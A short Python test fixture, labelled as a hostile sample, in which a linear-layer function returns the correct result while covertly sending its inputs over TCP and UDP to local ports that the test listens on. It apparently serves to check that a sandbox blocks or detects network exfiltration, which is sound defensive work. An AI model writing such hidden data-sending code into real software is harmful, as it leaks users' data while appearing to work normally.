# Hostile part: linear_forward tries to send the inputs it was given out over the network (to a TCP and a
# UDP port on 127.0.0.1 that the test listens on), then returns the right answer.
import socket


def linear_forward(A, W, b):
    message = repr((A, W, b)).encode()
    try:
        with socket.create_connection(("127.0.0.1", __TCP_PORT__), timeout=0.5) as connection:
            connection.sendall(message)
    except OSError:
        pass
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagram:
            datagram.sendto(message[:500], ("127.0.0.1", __UDP_PORT__))
    except OSError:
        pass
    return W @ A + b, (A, W, b)
